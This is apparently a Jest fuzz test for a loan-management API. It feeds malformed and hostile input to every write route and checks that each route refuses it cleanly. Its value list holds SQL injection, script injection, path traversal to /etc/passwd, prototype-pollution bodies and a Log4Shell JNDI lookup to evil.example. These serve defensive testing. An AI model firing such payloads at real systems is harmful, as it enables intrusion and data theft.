import { OpenAPIObject } from '@nestjs/swagger';
import { creditApplication, GOOD_INVESTIGATION } from '@loanflow/origination';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { apiDocument } from '../../apps/api/src/openapi/api-document';
import { RouteInventory, RouteEntry } from '../../apps/api/src/access/route-inventory';
import {
  AccessFixtures,
  httpOf,
  openAccessFixtures,
  pathWith,
  readAccessMatrix,
  Staff,
} from '../support';
import { anyText } from '../support/expected-text';

/**
 * Every write route of the api, fed a corpus of malformed input as a user the access policy lets
 * through (so the input reaches parsing and validation): wrong types, sizes, nesting, encodings,
 * injection strings, prototype and duplicate keys, and each field of the route's body set to
 * values of the wrong kind. No answer may be a 5xx, and no business row may be written.
 */

interface Probe {
  label: string;
  contentType?: string;
  body?: string | Buffer;
  encoding?: string;
}

const KB = 1024;
const json = (label: string, body: string): Probe => ({
  label,
  contentType: 'application/json',
  body,
});

/** Bodies wrong as a whole. */
const GENERIC: Probe[] = [
  json('null', 'null'),
  json('a number', '0'),
  json('a string', '"text"'),
  json('true', 'true'),
  json('an empty array', '[]'),
  json('an array of objects', '[{}]'),
  json('an empty object', '{}'),
  json('empty text', ''),
  json('a cut object', '{"a":'),
  json('a trailing comma', '{"a":1,}'),
  json('single quotes', "{'a':1}"),
  json('garbage after the object', '{"a":1}}'),
  json('a byte order mark', '\uFEFF{}'),
  json('NaN', '{"a":NaN}'),
  json('10,000 arrays deep', `${'['.repeat(10_000)}${']'.repeat(10_000)}`),
  json('40 objects deep', `${'{"a":'.repeat(40)}1${'}'.repeat(40)}`),
  json('a duplicate key', '{"a":1,"a":2}'),
  json('a nested duplicate key', '{"a":{"b":1,"b":1}}'),
  json('__proto__', '{"__proto__":{"isAdmin":true,"roles":["admin"]}}'),
  json('constructor.prototype', '{"constructor":{"prototype":{"polluted":true}}}'),
  json('a nested __proto__', '{"a":[{"__proto__":{"x":1}}]}'),
  json('70 kB of text', JSON.stringify({ a: 'x'.repeat(70 * KB) })),
  json('an unterminated string', '{"a":"abc'),
  json('a control character', '{"a":"\u0001"}'),
  { label: 'text/plain', contentType: 'text/plain', body: '{}' },
  { label: 'a form', contentType: 'application/x-www-form-urlencoded', body: 'a=1&b=2' },
  { label: 'multipart', contentType: 'multipart/form-data; boundary=x', body: '--x--' },
  { label: 'latin-1 JSON', contentType: 'application/json; charset=iso-8859-1', body: '{}' },
  { label: 'utf-16 JSON', contentType: 'application/json; charset=utf-16', body: '{}' },
  { label: 'no content type', body: '{}' },
  {
    label: 'invalid UTF-8',
    contentType: 'application/json',
    body: Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
  },
  { label: 'gzip said, not sent', contentType: 'application/json', body: '{}', encoding: 'gzip' },
];

/** Values of the wrong kind for any field: each field of a body gets each in turn. */
const FIELD_VALUES: unknown[] = [
  "' OR '1'='1' --",
  '"; DROP TABLE loan; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '\u0000\u202e\uFFFF',
  'x'.repeat(5000),
  '9999999999999999999999999.999',
  '-1',
  '2026-02-30',
  -1,
  1.5,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  true,
  [],
  [[[]]],
  {},
  { $gt: '' },
];

/** The routes whose bodies may be big: every shipped model at once. */
const BIG_BODY_ROUTE = /^\/api\/models(\/|$)/;

interface Counted {
  table: string;
  where?: string;
}

/** What a refused request must never change. Audit rows may grow: refusals are recorded. */
const BUSINESS_TABLES: Counted[] = [
  { table: 'loan' },
  { table: 'loan_party' },
  { table: 'loan_collateral' },
  { table: 'loan_contract' },
  { table: 'loan_duty' },
  { table: 'repayment' },
  { table: 'ledger_entry' },
  { table: 'disbursement' },
  { table: 'risk_warning' },
  { table: 'loan_restructuring' },
  { table: 'model_release' },
  { table: 'model_deployment' },
  { table: 'user_role' },
  { table: 'user_task', where: "state = 'open'" },
  { table: 'user_task', where: 'assignee IS NOT NULL' },
  { table: 'complaint' },
  { table: 'complaint_staff' },
  { table: 'misconduct_report' },
  { table: 'misconduct_report_step' },
  { table: 'key_customer' },
];

describe('malformed input to every write route', () => {
  let fixtures: AccessFixtures;
  let staff: Staff;
  let dataSource: DataSource;
  let document: OpenAPIObject;

  beforeAll(async () => {
    fixtures = await openAccessFixtures('fuzz');
    staff = fixtures.stack.staff!;
    dataSource = fixtures.stack.api!.get(DataSource);
    document = apiDocument(fixtures.stack.api!);
    // The incident the fuzz reaches is resolved already: a body that happened to be valid must
    // still change nothing.
    await staff.post(
      'admin',
      `/api/monitor/incidents/${fixtures.hangzhou.incidentKey}/resolve`,
      {},
    );
  }, 240_000);

  afterAll(async () => {
    await fixtures.stack.close();
  });

  async function counts(): Promise<Record<string, number>> {
    const result: Record<string, number> = {};
    for (const { table, where } of BUSINESS_TABLES) {
      const [{ n }] = await dataSource.query<{ n: string }[]>(
        `SELECT COUNT(*) AS n FROM ${table}${where ? ` WHERE ${where}` : ''}`,
      );
      result[`${table}${where ? ` (${where})` : ''}`] = Number(n);
    }
    return result;
  }

  /** The first user the matrix lets through this route on the Hangzhou loan. */
  function userFor(route: RouteEntry): string | null {
    const row = readAccessMatrix().rows.find(
      (r) => r.method === route.method && r.path === route.path,
    );
    if (!row) return null;
    const users = Object.keys(row.cells).filter((user) => user !== 'anonymous');
    return users.find((user) => ['✓', 'own'].includes(row.cells[user])) ?? null;
  }

  /** The body DTO's fields, from the OpenAPI document. */
  function fieldsOf(route: RouteEntry): string[] {
    const openApiPath = route.path.replace(/:(\w+)/g, '{$1}');
    const operation = (document.paths[openApiPath] as Record<string, unknown> | undefined)?.[
      route.method.toLowerCase()
    ] as { requestBody?: { content?: Record<string, { schema?: { $ref?: string } }> } } | undefined;
    const ref = operation?.requestBody?.content?.['application/json']?.schema?.$ref;
    const schema = ref
      ? (document.components?.schemas?.[ref.split('/').pop()!] as {
          properties?: Record<string, unknown>;
        })
      : undefined;
    return Object.keys(schema?.properties ?? {});
  }

  function probesFor(route: RouteEntry): Probe[] {
    const probes = [...GENERIC];
    if (BIG_BODY_ROUTE.test(route.path))
      probes.push(json('6 MB of text', JSON.stringify({ files: 'x'.repeat(6 * KB * KB) })));
    for (const field of fieldsOf(route))
      for (const value of FIELD_VALUES)
        probes.push(
          json(
            `${field} = ${JSON.stringify(value).slice(0, 40)}`,
            JSON.stringify({ [field]: value }),
          ),
        );
    return probes;
  }

  async function send(route: RouteEntry, user: string, path: string, probe: Probe) {
    const method = route.method.toLowerCase() as 'post' | 'put';
    let pending = request(httpOf(fixtures.stack.api!))
      [method](path)
      .set('authorization', `Bearer ${await staff.token(user)}`)
      .set('accept', 'application/json');
    if (probe.contentType) pending = pending.set('content-type', probe.contentType);
    if (probe.encoding) pending = pending.set('content-encoding', probe.encoding);
    return probe.body === undefined ? pending : pending.send(probe.body as string);
  }

  /** A valid body for routes that take one: the fuzz breaks one field of it at a time. */
  function validBodies(): [method: string, path: string, body: object][] {
    const repayment = {
      amount: '100.00',
      paidAt: new Date().toISOString(),
      channel: 'counter',
      idempotencyKey: 'fuzz-valid-base',
    };
    return [
      ['POST', '/api/applications', creditApplication()],
      ['POST', '/api/loans/:id/repayments', repayment],
      ['POST', '/api/loans/:id/early-settlement', repayment],
      [
        'POST',
        '/api/loans/:id/warnings',
        { level: 'yellow', description: 'stopped answering calls' },
      ],
      [
        'POST',
        '/api/loans/:id/restructurings',
        { kind: 'extension', extraMonths: 6, reason: 'income paused for a season' },
      ],
      [
        'POST',
        '/api/loan-quotes',
        {
          principal: '10000.00',
          annualRate: '0.0435',
          termMonths: 12,
          method: 'equal-installment',
        },
      ],
      ['POST', '/api/models/check', { files: [{ name: 'a.bpmn', content: '<definitions/>' }] }],
      ['POST', '/api/tasks/:id/complete', { answer: GOOD_INVESTIGATION }],
      ['POST', '/api/tasks/:id/delegate', { username: 'li.cm' }],
      [
        'POST',
        '/api/auth/password',
        { currentPassword: 'LoanFlow#2026', newPassword: 'a-new-pass-phrase' },
      ],
      ['PUT', '/api/admin/users/:username/roles', { roles: ['reviewer'] }],
      [
        'POST',
        '/api/loans/:id/complaints',
        {
          category: 'other',
          channel: 'phone',
          text: 'the customer says the fee was never explained',
        },
      ],
      [
        'POST',
        '/api/reports',
        {
          subject: 'staff',
          staff: 'zhou.cm',
          text: 'took a gift from a borrower before the review',
        },
      ],
      [
        'POST',
        '/api/key-customers',
        { idNumber: '33010619900101123X', name: '张伟', reason: 'large exposure, volatile income' },
      ],
    ];
  }

  /** The body with the value at `path` replaced. */
  function replaced(body: unknown, path: string[], value: unknown): unknown {
    if (path.length === 0) return value;
    const [head, ...rest] = path;
    if (Array.isArray(body))
      return (body as unknown[]).map((item, i) =>
        String(i) === head ? replaced(item, rest, value) : item,
      );
    const object = body as Record<string, unknown>;
    return { ...object, [head]: replaced(object[head], rest, value) };
  }

  /** Every leaf of the body with its path, nested objects and arrays included. */
  function leaves(body: unknown, path: string[] = []): [string[], unknown][] {
    if (body && typeof body === 'object')
      return Object.entries(body).flatMap(([key, value]) => leaves(value, [...path, key]));
    return [[path, body]];
  }

  /** Values of another JSON kind than the one a field holds: never valid for it. */
  function wrongKinds(value: unknown): unknown[] {
    const kinds: unknown[] = [123, true, [], [[]], [{}], {}, { a: 1 }, 'text'];
    const kindOf = (v: unknown) => (Array.isArray(v) ? 'array' : typeof v);
    return kinds.filter((candidate) => kindOf(candidate) !== kindOf(value));
  }

  it('breaks one field of a valid body at a time: still never a 5xx, nothing written', async () => {
    const routes = fixtures.stack.api!.get(RouteInventory).routes();
    const before = await counts();
    const serverErrors: string[] = [];
    for (const [method, routePath, body] of validBodies()) {
      const route = routes.find((r) => r.method === method && r.path === routePath);
      if (!route) throw new Error(`${method} ${routePath} is no route`);
      const user = userFor(route)!;
      const path = pathWith(method, routePath, fixtures.hangzhou, fixtures.definitionKey);
      for (const [at, value] of leaves(body))
        for (const wrong of wrongKinds(value)) {
          const response = await send(
            route,
            user,
            path,
            json('', JSON.stringify(replaced(body, at, wrong))),
          );
          if (response.status >= 500)
            serverErrors.push(
              `${method} ${routePath} ${at.join('.')} = ${JSON.stringify(wrong)}: ${response.status}`,
            );
          expect(response.status).not.toBe(201);
        }
    }
    expect(serverErrors).toEqual([]);
    expect(await counts()).toEqual(before);
  }, 600_000);

  it('never answers 5xx and writes nothing', async () => {
    const routes = fixtures.stack
      .api!.get(RouteInventory)
      .routes()
      .filter((route) => route.method === 'POST' || route.method === 'PUT');
    expect(routes.length).toBeGreaterThan(15);
    const before = await counts();
    const serverErrors: string[] = [];
    let sent = 0;
    for (const route of routes) {
      const user = userFor(route);
      if (!user) throw new Error(`${route.method} ${route.path} is not in the access matrix`);
      const path = pathWith(route.method, route.path, fixtures.hangzhou, fixtures.definitionKey);
      for (const probe of probesFor(route)) {
        const response = await send(route, user, path, probe);
        sent++;
        if (response.status >= 500)
          serverErrors.push(
            `${route.method} ${route.path} as ${user}, ${probe.label}: ${response.status} ${JSON.stringify(response.body).slice(0, 200)}`,
          );
        else if (response.status >= 400)
          expect(response.body).toMatchObject({
            code: anyText(),
            message: anyText(),
          });
      }
    }
    expect(serverErrors).toEqual([]);
    expect(await counts()).toEqual(before);
    expect(sent).toBeGreaterThan(500);
  }, 600_000);
});
